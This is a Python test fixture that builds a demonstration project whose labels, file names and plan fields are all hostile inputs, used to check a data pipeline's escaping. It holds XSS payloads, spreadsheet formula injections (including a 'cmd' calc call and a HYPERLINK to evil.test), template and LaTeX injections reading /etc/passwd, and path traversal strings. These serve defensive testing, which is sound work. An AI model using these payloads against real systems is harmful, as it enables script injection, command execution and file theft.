"""A project whose every label is hostile: made from the demonstration zone, with a plan of its own.

Each text carries a marker of its own (`ZZ12ZZ`), so that a test can ask where a label went; each payload,
where anything runs it, sets `window.PWNED`, changes the title of the page, or asks a host for something.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
from pathlib import Path
from typing import Any

import yaml

from cbs_analysis.registry.load import load_registry
from cbs_analysis.sources import build
from tests.conftest import ROOT

__all__ = ["FORMULA", "PAYLOADS", "PLAN", "SAFE", "SHOWN", "Hostile"]

PLAN, AREA, AS_OF, OWN = "hostile14", "99DM00", "2023-06-30", "HZ"
_RUN = "window.PWNED='{m}';document.title='PWNED'"

# what begins with a sign that a spreadsheet program takes for a formula
FORMULA = (
    '=HYPERLINK("http://evil.test/{m}","x")',
    "+1+cmd|' /C calc'!A0 {m}",
    "-1+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1)*{m}",
    "＝1+1 {m}",
)
PAYLOADS = (
    "<script>" + _RUN + "</script>",
    "<img src=x onerror=\"" + _RUN + "\">{m}",
    "\"><svg onload=\"" + _RUN + "\">{m}",
    "' onmouseover='" + _RUN + "' x='{m}",
    "</td></table></main><iframe src=\"javascript:" + _RUN + "\">{m}",
    "</style></script><script>" + _RUN + "</script>{m}",
    "[{m}](javascript:" + _RUN + ") ![x](http://evil.test/{m}.png)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">{m}</a>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/{m}\">",
    "<link rel=stylesheet href=http://evil.test/{m}.css><base href=http://evil.test/>",
    "<form action=http://evil.test/{m}><button autofocus onfocus=\"" + _RUN + "\">",
    "{{{{ {m} }}}} {{% for x in ().__class__.__bases__ %}}{{%raw%}}{{}}{{0}}{{m}}",
    "$\\frac{{{m}}}{{0}}$ $x_{{ $ \\input{{/etc/passwd}} \\write18{{id}}",
    "{m}\u202e321% \u2066\u200f",
    "{m}\u200b\u2060\ufeff零宽",
    "{m}😀\U00020000\U0001f468\u200d\U0001f469",
    "../../../../etc/passwd {m}",
    "<!-- {m} --><!--contents--><![CDATA[ {m} ]]>",
    "<details open ontoggle=\"" + _RUN + "\">{m}",
    "<style>*{{display:none}}@import url(http://evil.test/{m})</style>",
    "data-synthetic=\"true\" <div class=\"synthetic\" data-synthetic=\"true\">{m}",
    "{m}{long}",
    "&lt;script&gt;{m}&lt;/script&gt; &amp;amp;",
    *FORMULA,
)  # fmt: skip
# what a researcher's own cells may show; each would run or lead elsewhere where a page let it
_SHOW = "window.PWNED='{n}';document.title='PWNED'"
SHOWN = (
    f"<script>{_SHOW}</script>",
    f"<img src=x onerror=\"{_SHOW}\">",
    "<img src=http://evil.test/a.png><img srcset=http://evil.test/b.png>",
    f"<a id=go href=\"javascript:{_SHOW}\">go</a>",
    f"<svg onload=\"{_SHOW}\"><script>{_SHOW}</script><foreignObject><p>in</p></foreignObject></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/m'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/f><button id=send>send</button></form>",
    "<iframe srcdoc=\"<script>parent.PWNED=1</script>\"></iframe><iframe src=http://evil.test/i></iframe>",
    "<object data=http://evil.test/o></object><embed src=http://evil.test/e>",
    "<link rel=stylesheet href=http://evil.test/l.css><link rel=dns-prefetch href=http://evil.test>",
    "<style>@import url(http://evil.test/s);.synthetic-banner,h1{display:none}</style>",
    "<p style='background:url(http://evil.test/u);position:fixed;inset:0;z-index:9'>over all</p>",
    f"<details open ontoggle=\"{_SHOW}\"><summary>d</summary></details>",
    "</div></div></main></body></html><p>after the end</p>",
    '<div class="synthetic" data-synthetic="true"></div><table id=bare><tr><td>12.3</td></tr></table>',
    "<math><mtext></table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={_SHOW}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={_SHOW}>\">",
    "<video src=http://evil.test/v autoplay></video><audio src=http://evil.test/a autoplay></audio>",
    "<portal src=http://evil.test/p></portal><template><script>1</script></template>",
)  # fmt: skip
# control characters that a delimited file can hold
CONTROLS = "\x1b[31m{m}\x1b[0m\x07\x08\x7f\x9b"


_SOURCE = ROOT / "cbs_analysis" / "registry" / "plans" / "cbs14.yml"
# what is free text in the raw tables and in a plan
_FREE = frozenset(
    [
        "label",
        "area_label",
        "note",
        "seen_as",
        "title",
        "document",
        "visual_progress",
        "self_rating",
        "rating",
    ]
)
_SAID = frozenset(["zh", "en", "note_zh", "note_en", "programme_zh", "programme_en", "box"])


class Hostile:
    """Hands out hostile texts in turn and remembers them by their markers."""

    def __init__(self) -> None:
        self.texts: dict[str, str] = {}
        self.ids: set[str] = set()

    def text(self, *, controls: bool = False) -> str:
        """The next text; a raw table may hold control characters, a plan in YAML may not."""
        n = len(self.texts)
        payload = CONTROLS if controls and n % 9 == 4 else PAYLOADS[n % len(PAYLOADS)]
        marker = f"ZZ{n}ZZ"
        # now and then a label without an end; more of them would only make the tests slow
        long = "长" * (10_000 if n // len(PAYLOADS) % 5 == 1 else 150)
        self.texts[marker] = payload.format(m=marker, long=long)
        return self.texts[marker]

    def project(self, root: Path, *, since: str = "2019") -> Path:
        """Write the project with the raw files from a day on, and build it."""
        plan = load_registry().plans["cbs14"]
        self.ids = {x.id for x in (*plan.commitments, *plan.measures, *plan.projects)}
        self._plan(root)
        self._raw(root, since)
        build(root / "data" / "raw", root / "data" / "processed")
        return root

    # --- raw files -------------------------------------------------------------------------------

    def _raw(self, root: Path, since: str) -> None:
        for folder in sorted((ROOT / "data" / "raw" / "demo").iterdir()):
            if not since <= folder.name <= AS_OF:
                continue
            for path in sorted(folder.glob("*.csv")):
                target = root / "data" / "raw" / "demo" / folder.name / self._name(path.name)
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_bytes(self._table(path))
                meta = yaml.safe_load(path.with_name(f"{path.name}.meta.yml").read_text(encoding="utf-8"))
                meta |= {key: self.text() for key in ("title", "read_at", "licence", "note")}
                meta["sha256"] = hashlib.sha256(target.read_bytes()).hexdigest()
                target.with_name(f"{target.name}.meta.yml").write_text(
                    yaml.safe_dump(meta, allow_unicode=True, width=10**9), encoding="utf-8"
                )

    def _name(self, name: str) -> str:
        """The name of some files holds what a file system allows; a slash is not among it."""
        if len(self.texts) % 3:
            return name
        marker = f"ZZ{len(self.texts)}ZZ"
        self.texts[marker] = f"=1+{{{{x}}}} '\"><img src=x onerror=window.PWNED=1>#%41?&{marker}.csv"
        return self.texts[marker]

    def _table(self, path: Path) -> bytes:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        free = [i for i, name in enumerate(rows[0]) if name in _FREE]
        for n, row in enumerate(rows[1:]):
            row[:] = [OWN + cell if cell in self.ids else cell for cell in row]
            for i in free if n < 12 else []:  # a few rows of each file are enough
                row[i] = self.text(controls=True)
        out = io.StringIO(newline="")
        csv.writer(out, lineterminator="\n").writerows(rows)
        return out.getvalue().encode()

    # --- the plan --------------------------------------------------------------------------------

    def _plan(self, root: Path) -> None:
        """The plan of the demonstration zone under ids of its own: an id belongs to one plan."""
        source = yaml.safe_load(_SOURCE.read_text(encoding="utf-8"))
        demo = load_registry().plans["demo14"]
        commitments = [self._made(c) for c in source["commitments"]]
        targets = {m.id: m.target for m in demo.measures if m.target}
        for commitment in commitments:
            commitment |= {"note_zh": self.text(), "note_en": self.text()}
            for measure in commitment["measures"]:
                measure |= {k: self.text() for k in ("zh", "en", "note_zh", "note_en")}
                target = targets.get(measure["id"].removeprefix(OWN))
                measure.pop("target", None)
                if target:
                    measure["target"] = {
                        "value": target.value, "period": target.period, "source_zh": self.text(),
                        "source_en": self.text(),
                    }  # fmt: skip
        document = {k: self.text() for k in ("zh", "en", "issuer_zh", "issuer_en", "read_at")}
        plan = {
            "id": PLAN, "zh": self.text(), "en": self.text(), "area": AREA, "baseline": 2020,
            "start": "2021-01-01", "end": "2025-12-31", "document": document | {"published": "2021-03-01"},
            "sections": [{"id": i, "zh": self.text(), "en": self.text()} for i in demo.sections],
            "offices": {i: {"zh": self.text(), "en": self.text()} for i in demo.offices},
            "commitments": commitments, "projects": [self._made(p) for p in source["projects"]],
        }  # fmt: skip
        path = root / "plans" / f"{PLAN}.yml"
        path.parent.mkdir(parents=True)
        path.write_text(yaml.safe_dump(plan, allow_unicode=True, width=10**9), encoding="utf-8")

    def _made(self, entry: Any) -> Any:
        if isinstance(entry, list):
            return [self._made(e) for e in entry]
        if isinstance(entry, dict):
            return {k: self.text() if k in _SAID and v else self._made(v) for k, v in entry.items()}
        return OWN + entry if entry in self.ids else entry


SAFE = re.compile(r"ZZ\d+ZZ")
